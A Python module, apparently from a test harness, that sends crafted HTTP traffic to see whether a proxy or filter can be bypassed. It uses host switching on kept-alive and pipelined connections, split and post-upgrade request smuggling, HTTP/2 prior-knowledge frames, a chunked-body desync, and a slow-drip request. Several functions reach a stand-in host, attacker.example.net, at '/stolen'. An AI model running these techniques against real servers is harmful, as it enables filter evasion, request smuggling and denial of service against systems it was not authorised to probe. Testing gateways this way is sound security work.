"""Attacks by what an HTTP client says."""

from __future__ import annotations

import struct
import time

from . import wire
from .wire import CRLF, get

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def raw(address: str, text: str, port: int = 80) -> None:
    """Any text. `{attack}` in it stands for a request for the attacker's host."""
    attack = get("attacker.example.net", path="/stolen").decode()
    data = text.replace("{attack}", attack).replace("{big}", "x" * 4200)
    wire.talk(address, port, data.encode("latin-1"))


def kept_alive(address: str, first: str, second: str) -> None:
    """Another host on a connection that has served an allowed one."""
    with wire.connect(address, 80) as client:
        client.sendall(get(first))
        client.recv(65536)
        client.sendall(get(second, path="/stolen"))
        wire.listen(client)


def pipelined(address: str, first: str, second: str) -> None:
    """The same without waiting for the first answer."""
    wire.talk(address, 80, get(first) + get(second, path="/stolen"))


def split_between(address: str, first: str, second: str) -> None:
    """The second request begins in the segment that ends the first, and goes on in the next."""
    later = get(second, path="/stolen")
    wire.talk(address, 80, get(first) + later[:9], later[9:])


def after_upgrade(address: str, name: str, host: str) -> None:
    """WebSocket is asked for and refused; what follows is no tunnel."""
    key = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
    upgrade = get(name, *key, "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
    wire.talk(address, 80, upgrade + get(host, path="/stolen"))


def http2(address: str, authority: str) -> None:
    """HTTP/2 by prior knowledge, on the plain port."""

    def literal(index: int, value: str) -> bytes:
        return bytes([index]) + wire.vector(value.encode(), 1)

    head = bytes([0x82, 0x86]) + literal(0x41, authority) + literal(0x44, "/stolen")
    settings = b"\0\0\0\4\0" + bytes(4)
    headers = struct.pack("!I", len(head))[1:] + b"\1\5" + struct.pack("!I", 1) + head
    wire.talk(address, 80, _PREFACE + settings + headers)


def chunked(address: str, name: str, size_line: str) -> None:
    """A chunked body whose end two readers may see in different places."""
    head = CRLF.join(
        ["POST / HTTP/1.1", f"Host: {name}", "Transfer-Encoding: chunked", "", ""]
    ).encode()
    attack = get("attacker.example.net", path="/stolen")
    wire.talk(address, 80, head + size_line.encode("latin-1") + attack)


def drip(address: str, name: str, seconds: float, patience: float) -> bool:
    """A request at one byte a second: is it still listened to after `patience` seconds?"""
    started = time.monotonic()
    with wire.connect(address, 80) as client:
        for byte in get(name, "X-Long: " + "x" * 500):
            client.sendall(bytes([byte]))
            time.sleep(seconds)
            if time.monotonic() - started > patience:
                return True
    return False
